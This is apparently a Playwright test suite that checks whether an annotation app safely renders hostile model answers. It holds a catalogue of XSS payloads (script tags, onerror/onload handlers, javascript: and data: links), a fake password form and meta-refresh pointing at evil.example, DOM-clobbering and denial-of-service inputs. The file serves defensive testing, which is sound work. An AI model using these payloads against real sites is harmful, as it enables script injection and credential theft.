import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launch, noBrowser } from "../support/browser.js";
import { type Fake, type FakeItem, startFake } from "../support/fake-annotation-server.js";

const attack =
  "<script>window.pwned=1</script><img src=x onerror='window.pwned=2'><svg onload='window.pwned=3'><iframe src='https://evil.example/f'></iframe>";
const answers: Record<string, string> = {
  scripts: attack,
  links:
    "[a](javascript:window.pwned=4) [b](data:text/html,<script>window.pwned=5</script>) <a href='vbscript:x'>c</a> [safe](https://example.com/)",
  images:
    "![pixel](https://evil.example/p.png) <img src='//evil.example/q.png'> <video src='https://evil.example/v' poster='https://evil.example/w'></video> <div style='background:url(https://evil.example/s)'>styled</div>",
  forms:
    "<form action='https://evil.example'><input name=password><button>Log in</button></form><meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'><link rel=stylesheet href='https://evil.example/c.css'>",
  clobbering: "<a id=body name=getElementById></a><form id=app></form><p class=dock>A is right</p>",
  overrides: "abc \u202Eevil\u202C def \u2066x\u2069",
  broken: "**[`<!-- <![CDATA[ </textarea></title>" + "<b>".repeat(50) + "| a |\n|--",
  quotes: ">".repeat(20_000) + " deep",
  brackets: "[".repeat(20_000) + "!" + "(".repeat(20_000),
  elements: "<div>".repeat(20_000),
  lists: Array.from({ length: 400 }, (_, k) => `${" ".repeat(k * 2)}- x`).join("\n"),
  stars: "*a_".repeat(4_000),
  math:
    "$\\def\\a{\\a\\a}\\a$ $\\href{javascript:window.pwned=6}{x}$ $\\includegraphics{https://evil.example/m.png}$ $" +
    "{".repeat(250) +
    "$",
  megabytes: `${"word ".repeat(1_000_000)}end`,
  lines: Array.from({ length: 10_000 }, (_, k) => `line ${k}`).join("\n"),
  arabic: "مرحبا **بالعالم**، كيف حالك؟",
};
const names = Object.keys(answers);
const items = names.map((name): FakeItem => ({
  prompt: [{ role: "user", content: `Case ${name}` }],
  candidates: [
    { id: "x", messages: [{ role: "assistant", content: answers[name]! }] },
    { id: "y", messages: [{ role: "assistant", content: "plain" }] },
  ],
}));

/** Every request that leaves for elsewhere, and whatever broke or was stopped by the policy. */
function watch(page: Page, fake: Fake): { elsewhere: string[]; broken: string[] } {
  const elsewhere: string[] = [];
  const broken: string[] = [];
  page.on("request", (request) => void (request.url().startsWith(fake.url) || elsewhere.push(request.url())));
  page.on("pageerror", (error) => broken.push(error.message));
  page.on(
    "console",
    (message) => void (/Content Security Policy/.test(message.text()) && broken.push(message.text())),
  );
  return { elsewhere, broken };
}

describe.skipIf(noBrowser !== undefined)("hostile answers", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(() => browser?.close());

  it("do nothing, ask for nothing from elsewhere, and leave the page quick", async () => {
    const fake = await startFake({ task: "pair", items });
    const page = await browser.newPage();
    const { elsewhere, broken } = watch(page, fake);
    await page.goto(`${fake.url}#token=abc`);
    for (const name of names) {
      await page.locator(".prompt", { hasText: `Case ${name}` }).waitFor();
      const pane = page.locator(".pane").first();
      if (name === "links") {
        const links = await pane
          .locator("a[href]")
          .evaluateAll((all) => all.map((each) => each.getAttribute("href")));
        expect(links).toEqual(["https://example.com/"]);
      }
      if (name === "images") expect(await pane.innerText()).toContain("image not loaded: pixel");
      if (name === "clobbering") expect(await page.locator(".dock").count()).toBe(1);
      if (name === "overrides") expect(await pane.innerText()).toContain("⟨U+202E⟩evil");
      if (name === "arabic")
        expect(await page.evaluate("getComputedStyle(document.querySelector('.pane .text')).direction")).toBe(
          "rtl",
        );
      if (name === "lines" || name === "megabytes") {
        await pane.getByRole("button", { name: /Show all/ }).click();
        await expect
          .poll(() => page.evaluate("document.querySelector('.pane .text > *').textContent.trim().slice(-4)"))
          .toBe(name === "lines" ? "9999" : " end");
      }
      expect(
        await pane
          .locator(
            "script, iframe, form, input, video, style, link, meta, base, svg, [onerror], [onload], [style], img",
          )
          .count(),
        name,
      ).toBe(0);
      await page.keyboard.press("1");
      await page.locator(".point.on").waitFor();
      await page.keyboard.press("Control+Enter");
    }
    await page.getByText("All done").waitFor();
    expect(await page.evaluate("window.pwned")).toBeUndefined();
    expect(elsewhere).toEqual([]);
    expect(broken).toEqual([]);
    expect(fake.submissions).toHaveLength(names.length);
    await fake.close();
  });

  it("are as harmless in tool calls, results, names, comments and guidelines, on every page", async () => {
    const said = (content: string, more: object = {}) => ({ role: "assistant", content, ...more });
    const call = {
      tool_calls: [{ type: "function" as const, function: { name: attack, arguments: { q: attack } } }],
    };
    const run = (own: string) => [
      said("Same", { reasoning_content: attack }),
      said(attack, call),
      { role: "tool", name: attack, content: `Error: ${attack}` },
      { role: "tool", name: attack, content: `${attack}\n${own}` },
    ];
    const fake = await startFake({
      task: "trajectories",
      items: [
        {
          prompt: [
            { role: "system", content: attack },
            { role: "user", content: attack },
          ],
          tools: [{ type: "function", function: { name: attack, description: attack } }],
          candidates: ["x", "y"].map((id) => ({ id, messages: run(id) })),
        },
      ],
      settings: { reasons: [attack] },
      saying: attack,
    });
    const page = await browser.newPage();
    const { elsewhere, broken } = watch(page, fake);
    await page.goto(`${fake.url}#token=abc`);
    await page.locator(".trajectories").waitFor();
    for (const fold of await page.locator("[aria-expanded=false], summary").all()) await fold.click();
    for (const name of ["annotate", "guidelines", "review", "agreement", "leaderboard", "data", "setup"]) {
      await page.evaluate(`location.hash = "#/${name}"`);
      await page.locator("main h1").waitFor();
      await expect.poll(() => page.getByText("Loading…").count()).toBe(0);
      if (name === "data") await page.locator(".list [aria-expanded]").first().click();
      if (name === "agreement" || name === "leaderboard") await page.locator("svg circle").first().waitFor();
      expect(
        await page.locator("main :is(script, iframe, style, img, [onerror], [onload])").count(),
        name,
      ).toBe(0);
    }
    await page.evaluate("location.hash = '#/annotate'");
    await page.locator(".trajectories").waitFor();
    await page.keyboard.press("1");
    await page.keyboard.press("Enter");
    await page.getByText("All done").waitFor();
    await page.evaluate("location.hash = '#/history'");
    await page.getByText("What you judged").waitFor();
    expect(await page.evaluate("window.pwned")).toBeUndefined();
    expect(elsewhere).toEqual([]);
    expect(broken).toEqual([]);
    await fake.close();
  });

  it("have their images fetched only where the project allows it, over https, and never as data", async () => {
    const pictures =
      "![a](https://pictures.example/a.png) ![b](http://pictures.example/b.png) ![c](data:image/png;base64,AAAA) ![d](//pictures.example/d.png)";
    const items: FakeItem[] = [
      {
        prompt: [],
        candidates: ["x", "y"].map((id) => ({ id, messages: [{ role: "assistant", content: pictures }] })),
      },
    ];
    for (const images of [false, true]) {
      const fake = await startFake({ task: "pair", items, settings: { images } });
      const page = await browser.newPage();
      const { elsewhere } = watch(page, fake);
      await page.goto(`${fake.url}#token=abc`);
      await page.locator(".image-note").first().waitFor();
      const shown = await page
        .locator(".pane img")
        .evaluateAll((all) => all.map((each) => each.getAttribute("src")));
      expect(shown).toEqual(images ? Array(2).fill("https://pictures.example/a.png") : []);
      // The fake server's policy allows none; a real one with images on does.
      expect(elsewhere.filter((url) => !url.startsWith("https://pictures.example/a.png"))).toEqual([]);
      await fake.close();
    }
  });
});
